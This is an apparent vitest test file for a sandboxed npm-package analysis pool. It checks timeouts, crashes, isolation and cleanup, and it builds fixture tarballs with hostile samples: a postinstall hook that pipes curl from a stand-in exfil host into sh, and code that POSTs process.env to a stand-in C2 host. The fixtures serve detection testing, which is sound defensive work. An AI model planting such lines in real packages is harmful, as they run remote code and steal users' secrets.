import { once } from 'node:events';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type AnalysisResult, analysisResultSchema } from '@weir/model';
import { tarball } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { NO_ISOLATION, probeIsolation } from './isolation.ts';
import { createAnalysisPool } from './pool.ts';

const UNRULY = new URL('./testing/unruly-child.ts', import.meta.url);
const OPTIONS = { workersMax: 2, memoryMbMax: 192, deadlineMs: 15_000, idleMs: 60_000 };
const dir = mkdtempSync(join(tmpdir(), 'weir-pool-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const never = new AbortController().signal;

function input(
  filename: string,
  content: string | Uint8Array = 'bytes',
): Parameters<ReturnType<typeof createAnalysisPool>['analyze']>[0] {
  const path = join(dir, filename.replaceAll('/', '_'));
  writeFileSync(path, content);
  return { path, filename, ecosystem: 'npm', context: null };
}

describe('a child that misbehaves', () => {
  test.each([
    ['loop', 'analysis/timeout', 300, 'once'],
    ['regex', 'analysis/timeout', 300, 'once'],
    ['heap', 'analysis/(?:crash|memory)', 15_000, '2 times'],
    ['buffers', 'analysis/memory', 15_000, '2 times'],
    ['segfault', 'analysis/crash', 15_000, '2 times'],
  ])(
    '%s ends inconclusive with a scored finding, and the pool goes on',
    async (behaviour, rule, deadlineMs, attempts) => {
      await using pool = createAnalysisPool(
        { ...OPTIONS, deadlineMs },
        { entry: UNRULY, rulesetVersion: 'test' },
      );

      const result = await pool.analyze(input(behaviour), never);

      expect(analysisResultSchema.safeParse(result).success).toBe(true);
      expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false, level: 'low' });
      expect(result.judgement.score).toBeGreaterThan(0);
      expect(result.findings[0]?.rule).toMatch(new RegExp(`^${rule}$`));
      expect(result.findings[0]?.summary).toContain(attempts);
      expect(result.artifact.sizeBytes).toBe(5);
    },
  );

  test.each(['loop-then-pass', 'exit'])(
    'the cheap pass in its place adds what it finds, also when it dies itself: %s',
    async (behaviour) => {
      await using pool = createAnalysisPool(
        { ...OPTIONS, deadlineMs: 1000 },
        { entry: UNRULY, rulesetVersion: 'test' },
      );

      const result = await pool.analyze(input(behaviour), never);

      expect(analysisResultSchema.safeParse(result).error).toBeUndefined();
      expect(result.findings.map(({ rule }) => rule)).toEqual([
        expect.stringMatching(/^analysis\/(?:crash|timeout)$/),
        'analysis/unread-exfil-host',
      ]);
      expect(result.judgement).toMatchObject({ verdict: 'suspicious', complete: false });
    },
  );

  test('a retry in a fresh child can succeed', async () => {
    await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });

    expect(await pool.analyze(input('second-time'), never)).toEqual({ answeredTask: 2 });
  });

  test('an answered error is retried once and told', async () => {
    await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });

    const result = await pool.analyze(input('report'), never);

    expect(result.findings[0]?.rule).toBe('analysis/error');
    expect(result.findings[0]?.summary).toContain('2 times');
  });
});

test('a child sees no variable of ours, cannot start processes and writes only to its scratch folder', async () => {
  await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test' });

  const result = await pool.analyze(input('report'), never);

  const summary = result.findings[0]?.summary ?? '';
  const env = /"env":(?<list>\[[^\]]*\])/.exec(summary)?.groups?.list ?? 'null';
  const allowed = [
    'NODE_CHANNEL_FD',
    'NODE_CHANNEL_SERIALIZATION_MODE',
    'MALLOC_MMAP_THRESHOLD_',
    'MALLOC_TRIM_THRESHOLD_',
    'MALLOC_ARENA_MAX',
    'TEMP',
    'TMP',
    'TMPDIR',
    'SystemRoot',
    'SYSTEMROOT',
  ];
  expect((JSON.parse(env) as string[]).filter((name) => !allowed.includes(name))).toEqual([]);
  expect(summary).toContain('"rights":{"child":false,"write":false}');
});

describe('the walls that the system gives', () => {
  const { network, limits } = probeIsolation();

  async function reported(filename: string, isolation = probeIsolation()): Promise<string> {
    await using pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test', isolation });
    return (await pool.analyze(input(filename), never)).findings[0]?.summary ?? '';
  }

  test('no limit and no namespace is ever required', async () => {
    expect(await reported('report', NO_ISOLATION)).toContain('"rights":{"child":false,"write":false}');
  });

  test.skipIf(network === 'host')('a child cannot reach a server of this machine', async () => {
    await using server = createServer((socket) => socket.destroy()).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    const port = typeof address === 'object' ? address?.port : undefined;

    expect(await reported(`connect-${port}`)).toMatch(/ENETUNREACH|EHOSTUNREACH/);
    expect(await reported(`connect-${port}`, NO_ISOLATION)).toContain('connected');
  });

  test.skipIf(process.platform !== 'linux' || limits === null)('a child has its limits', async () => {
    const summary = await reported('limits');

    expect(summary).toContain('Max core file size 0 0');
    expect(summary).toContain('Max cpu time 3600 3600');
  });

  test.skipIf(network === 'host')('the kill reaches the process behind them', async () => {
    await using pool = createAnalysisPool(
      { ...OPTIONS, deadlineMs: 300 },
      { entry: UNRULY, rulesetVersion: 'test', onChild: (pid) => pids.push(pid) },
    );
    const pids: number[] = [];

    await pool.analyze(input('loop'), never);

    expect(pids.length).toBeGreaterThan(0);
    await expect.poll(() => pids.filter(isAlive)).toEqual([]);
  });

  test('a pool that must have no network is refused where there is one', () => {
    expect(() => createAnalysisPool({ ...OPTIONS, network: 'none' }, { isolation: NO_ISOLATION })).toThrow(
      'network namespace',
    );
  });
});

function isAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

test('aborting rejects with the reason and kills the child', async () => {
  await using pool = createAnalysisPool(
    { ...OPTIONS, deadlineMs: 60_000 },
    { entry: UNRULY, rulesetVersion: 'test' },
  );
  const stop = new AbortController();

  const pending = pool.analyze(input('loop'), stop.signal);
  stop.abort(new Error('enough'));

  await expect(pending).rejects.toThrow('enough');
});

test('closing the pool leaves no child and no scratch folder behind', async () => {
  const scratchRoot = mkdtempSync(join(dir, 'scratch-'));
  const pool = createAnalysisPool(OPTIONS, { entry: UNRULY, rulesetVersion: 'test', scratchRoot });
  const hung = pool.analyze(input('loop'), never).catch((error: unknown) => error);
  await pool.analyze(input('exit'), never);

  await pool[Symbol.asyncDispose]();

  expect(readdirSync(scratchRoot)).toEqual([]);
  expect(await hung).toMatchObject({ code: 'ANALYSIS_CLOSED' });
  await expect(pool.analyze(input('exit'), never)).rejects.toMatchObject({ code: 'ANALYSIS_CLOSED' });
});

describe('the real child', () => {
  const ATTACK = tarball()
    .file(
      'package/package.json',
      JSON.stringify({
        name: 'x',
        version: '1.0.0',
        scripts: { postinstall: 'curl -s http://exfil.weir.test/a | sh' },
      }),
    )
    .build();

  test('analyses tarballs side by side and measures the bytes', async () => {
    await using pool = createAnalysisPool({ ...OPTIONS, memoryMbMax: 512, deadlineMs: 20_000 });
    const benign = tarball()
      .file('package/package.json', '{"name":"b","version":"1.0.0"}')
      .file('package/index.js', 'module.exports = 1')
      .build();

    const [attack, quiet, broken]: AnalysisResult[] = await Promise.all([
      pool.analyze(input('attack.tgz', ATTACK), never),
      pool.analyze(input('quiet.tgz', benign), never),
      pool.analyze(input('broken.tgz', 'no archive'), never),
    ]);

    expect(attack?.judgement).toMatchObject({ verdict: 'malicious', level: 'critical', complete: true });
    expect(quiet?.judgement).toMatchObject({ verdict: 'benign', complete: true });
    expect(broken?.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
    expect(attack?.artifact.digests).toMatchObject({ sha256: attack?.artifact.sha256 });
    expect(Object.keys(attack?.artifact.digests ?? {}).sort()).toEqual(['sha1', 'sha256', 'sha512']);
    expect(attack?.rulesetVersion).toBe(pool.rulesetVersion);
  });

  test('finds the same behind the walls and without them', async () => {
    const walls = probeIsolation();
    const pack = (files: Readonly<Record<string, string>>): Buffer => {
      const packed = tarball();
      for (const [path, text] of Object.entries(files)) packed.file(`package/${path}`, text);
      return packed.build();
    };
    const requests = [
      input('walls.tgz', ATTACK),
      input('quiet.tgz', pack({ 'package.json': '{"name":"b","version":"1.0.0"}', 'index.js': 'f();' })),
      input(
        'thief.tgz',
        pack({
          'package.json': '{"name":"c","version":"1.0.0"}',
          'index.js': `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });`,
        }),
      ),
      input('broken.tgz', 'no archive'),
      input('cut.tgz', ATTACK.subarray(0, -40)),
    ];
    const isOwn = walls.prefix.some((word) => word === '--net' || word === '-n');
    expect(isOwn).toBe(walls.network === 'none');
    const results: object[][] = [];
    for (const isolation of [NO_ISOLATION, walls]) {
      // A pool that must have a namespace starts only where it gets one.
      const network = isolation.network === 'none' ? 'none' : 'any';
      await using pool = createAnalysisPool({ ...OPTIONS, memoryMbMax: 512, network }, { isolation });
      const found: object[] = [];
      for (const request of requests)
        found.push({ ...(await pool.analyze(request, never)), elapsedMs: 0, factsMs: 0 });
      results.push(found);
    }

    expect(results[0]?.map((result) => (result as AnalysisResult).judgement.verdict)).toEqual([
      'malicious',
      'benign',
      'suspicious',
      'inconclusive',
      'inconclusive',
    ]);
    expect(results[1]).toEqual(results[0]);
  }, 60_000);

  test('a path that is not there is ANALYSIS_INPUT', async () => {
    await using pool = createAnalysisPool(OPTIONS);
    const missing = { ...input('gone.tgz'), path: join(dir, 'nothing-here') };

    await expect(pool.analyze(missing, never)).rejects.toMatchObject({
      code: 'ANALYSIS_INPUT',
      retriable: false,
    });
  });
});
